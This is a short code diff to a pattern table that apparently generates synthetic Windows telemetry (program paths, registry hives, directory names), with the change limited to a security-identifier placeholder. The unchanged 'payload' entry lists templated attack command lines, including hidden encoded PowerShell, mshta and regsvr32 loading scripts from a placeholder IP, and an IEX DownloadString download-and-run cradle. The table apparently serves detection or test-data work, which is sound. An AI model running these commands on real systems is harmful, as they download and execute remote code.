@@ -33,7 +33,7 @@ _PLACES: dict[str, str] = {
     "legit": "«C:\\Program Files\\‹Word›\\‹name›.exe¦‹s32›\\svchost.exe¦‹s32›\\services.exe¦‹s32›\\msiexec.exe¦C:\\Program Files (x86)\\‹Word› ‹Word›\\‹name›.exe»",
     "office": "C:\\Program Files«¦ (x86)»\\Microsoft Office\\«root\\Office16¦Office15¦Office16»\\«WINWORD¦EXCEL¦POWERPNT¦OUTLOOK¦MSACCESS¦MSPUB».EXE",
     "browser": "C:\\Program Files«¦ (x86)»\\«Google\\Chrome\\Application\\chrome¦Microsoft\\Edge\\Application\\msedge¦Mozilla Firefox\\firefox».exe",
-    "hku": "HKU\\S-1-5-21-1‹pid›-‹pid›-‹pid›-1‹pid›",
+    "hku": "HKU\\‹sid›",
     "program": '"C:\\Program Files«¦ (x86)»\\‹Word›\\«bin\\¦»‹name›.exe"',
     "payload": "«powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll¦C:\\Windows\\Temp\\‹name›.exe¦powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›.ps1')\"»",
     "dn": "CN=‹first›,«CN=Users¦OU=‹Word›,OU=Accounts»,DC=‹word›,DC=«com¦local»",
